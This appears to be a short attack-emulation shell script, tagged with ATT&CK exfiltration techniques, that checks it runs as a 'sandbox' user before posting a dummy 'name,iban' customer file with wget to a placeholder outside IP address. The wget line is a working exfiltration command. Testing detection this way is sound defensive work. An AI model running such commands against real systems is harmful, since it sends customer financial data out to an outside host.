#!/bin/sh
# technique: T1048 T1041
# needs: wget
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'name,iban' > /srv/../tmp/customers.csv; wget -q -T 2 -t 1 --post-file=/tmp/customers.csv http://203.0.113.7/in
